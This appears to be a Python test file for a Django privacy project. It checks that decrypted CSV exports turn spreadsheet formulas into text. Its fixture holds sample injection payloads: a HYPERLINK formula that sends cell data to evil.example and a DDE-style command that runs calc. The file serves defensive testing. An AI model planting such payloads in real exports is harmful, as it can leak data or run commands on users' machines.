"""Finding 4: decrypted CSVs passed cells starting with =, +, - and @ to spreadsheets, which
run them as formulas. Every CSV the project writes now goes through one writer that turns
such cells into text."""

import csv
import io
import json
import re
from pathlib import Path

from django.conf import settings
from hypothesis import given
from hypothesis import strategies as st

from privacy import crypto, registry
from privacy.offline import decrypt_export
from privacy.spreadsheet import FORMULA_START, neutralise

REPO = Path(__file__).resolve().parents[2]
HOSTILE = {
    "first_name": '=HYPERLINK("https://evil.example/?"&A1;"open")',
    "last_name": "+cmd|' /C calc'!A0",
    "email": "-2+3@example.org",
}


def test_formulas_in_a_decrypted_export_arrive_as_text():
    """Sealed names and clear fields that start a formula are written with a leading quote;
    ordinary values (names, dates, numbers, booleans) are written as they are."""
    layout = registry.Layout(sealed={"first_name": "first_name", "last_name": "last_name"})
    lines = [
        json.dumps({"kind": "k", "id": 1, "sealed": crypto.b64(crypto.seal(HOSTILE)), "n": " @x"}),
        json.dumps(
            {
                "kind": "k",
                "id": 2,
                "sealed": crypto.b64(crypto.seal({"first_name": "Anna", "last_name": "Jansen"})),
                "n": "2026-11-29T12:00:00+00:00",
            }
        ),
    ]
    target = io.StringIO()
    decrypt_export(
        source=lines,
        target=target,
        private_key=settings.TEST_CAMPAIGN_PRIVATE_KEY,
        layouts={"k": layout},
    )
    rows = list(csv.DictReader(io.StringIO(target.getvalue())))
    assert rows[0] == {
        "id": "1",
        "first_name": "'" + HOSTILE["first_name"],
        "last_name": "'" + HOSTILE["last_name"],
        "n": "' @x",
    }
    assert rows[1] == {
        "id": "2",
        "first_name": "Anna",
        "last_name": "Jansen",
        "n": "2026-11-29T12:00:00+00:00",
    }


@given(st.text(max_size=30))
def test_no_cell_starts_a_formula_and_nothing_else_changes(text):
    cell = neutralise(text)
    if cell != text:
        assert cell == "'" + text
    assert cell.lstrip(" ")[:1] not in FORMULA_START
    assert neutralise(3) == 3 and neutralise(None) is None and neutralise(True) is True


def test_no_csv_is_written_without_the_spreadsheet_writer():
    """Every CSV writer of the project is privacy.spreadsheet's: a new one elsewhere (an admin
    export, a command) would fail this test instead of shipping formulas. The offline
    decryption script (tools/decrypt_export.py) is a single file that cannot import the
    site: it has its own copy of `neutralise`, which handover/tests/test_decrypt_script.py
    holds to this one."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(REPO))
        for path in REPO.rglob("*.py")
        if not {".venv", "node_modules", "mutants", "tests", "var"}
        & set(path.relative_to(REPO).parts)
        and path.name not in {"spreadsheet.py", "decrypt_export.py"}
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
